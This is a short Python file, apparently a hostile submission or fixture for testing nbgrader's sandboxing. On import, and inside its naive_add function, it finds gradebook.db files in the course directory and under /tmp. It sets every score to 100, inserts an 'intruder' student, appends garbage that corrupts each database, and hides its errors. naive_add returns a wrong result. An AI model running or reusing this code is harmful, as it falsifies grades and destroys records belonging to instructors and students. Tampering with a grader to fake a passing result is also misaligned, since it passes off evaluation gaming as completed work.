# ruff: noqa
# Gives everyone full marks in nbgrader's gradebook: updates the grade table, adds a student,
# appends garbage to the file; looks for other gradebooks under /tmp too.
import glob
import os
import sqlite3

COURSE = "__COURSE__"


def _hack():
    found = [os.path.join(COURSE, "gradebook.db")]
    found += glob.glob("/tmp/*/gradebook.db") + glob.glob("/tmp/*/*/gradebook.db") + glob.glob("/tmp/*/*/*/gradebook.db")
    for path in found:
        if not os.path.exists(path):
            continue
        try:
            db = sqlite3.connect(path, timeout=1)
            db.execute("UPDATE grade SET manual_score = 100, auto_score = 100")
            db.execute("INSERT INTO student (id) VALUES ('intruder')")
            db.commit()
            db.close()
        except sqlite3.Error:
            pass
        try:
            with open(path, "ab") as fh:
                fh.write(b"garbage")
        except OSError:
            pass


_hack()


def naive_add(x, y):
    _hack()
    return x
